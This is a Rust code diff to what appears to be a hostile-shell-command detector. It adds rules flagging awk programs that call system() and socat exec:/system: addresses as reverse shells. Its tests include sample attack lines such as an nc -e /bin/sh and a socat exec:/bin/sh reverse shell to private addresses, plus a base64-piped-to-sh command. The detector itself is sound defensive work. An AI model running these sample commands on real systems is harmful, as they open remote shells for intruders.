@@ -294,6 +294,8 @@ fn command_at(t: &[u8], marks: &[bool], mut i: usize, opener: Opener, in_paren: 
 
     let shaped = match class {
         Class::Recon => plain == 0 && !(args.is_empty() && in_paren),
+        // `awk 'BEGIN{system("id")}'`: awk's own program runs a command.
+        Class::File if base == b"awk" && args.iter().any(|&(s, e)| contains(&t[s..e], b"system(") || contains(&t[s..e], b"|getline")) => true,
         Class::File => plain <= 1 && any(&[Shape::Path, Shape::File, Shape::Var]) || redirect && plain == 0,
         Class::Net => plain == 0 && any(&[Shape::Url, Shape::Host, Shape::Flag, Shape::Number, Shape::Var]),
         Class::Shell => {
@@ -311,7 +313,7 @@ fn command_at(t: &[u8], marks: &[bool], mut i: usize, opener: Opener, in_paren: 
         }
     };
     let reverse_shell = contains(&t[i..seg_end], b"/dev/tcp/")
-        || class == Class::Net && args.iter().any(|&(s, e)| matches!(&t[s..e], b"-e" | b"-c" | b"exec:"))
+        || class == Class::Net && args.iter().any(|&(s, e)| matches!(&t[s..e], b"-e" | b"-c") || socat_exec(&t[s..e]))
         || class == Class::Shell && arg(0) == b"-i";
     let first_arg_end = args.first().map_or(end, |a| a.1);
     let obfuscated = marks.get(i..first_arg_end.min(marks.len())).is_some_and(|m| m.iter().any(|&x| x));
@@ -328,6 +330,13 @@ fn command_at(t: &[u8], marks: &[bool], mut i: usize, opener: Opener, in_paren: 
     let whole_value = seg_end >= n && t[..i].iter().all(|c| c.is_ascii_whitespace());
     let lone_distinct = distinct && whole_value && plain == 0;
     Some((Candidate { opener, obfuscated, strong, hostile, lone_distinct }, end.max(i + 1)))
+}
+
+/// A socat address that runs a program (`exec:/bin/sh`, `SYSTEM:id`): the network tool
+/// becomes a shell bound to the connection.
+fn socat_exec(a: &[u8]) -> bool {
+    let a = trim_tail(a);
+    [&b"exec:"[..], b"system:"].iter().any(|p| a.len() >= p.len() && a[..p.len()].eq_ignore_ascii_case(p))
 }
 
 #[derive(Clone, Copy, PartialEq, Debug)]
@@ -425,6 +434,7 @@ mod tests {
             "/???/??t /???/p??s??",
             "echo aWQ= | base64 -d | sh",
             "x|nc -e /bin/sh 10.0.0.1 4444",
+            "x;socat tcp:10.0.0.5:4444 exec:/bin/sh",
         ] {
             assert_eq!(level(s), Some(1), "{s}");
         }
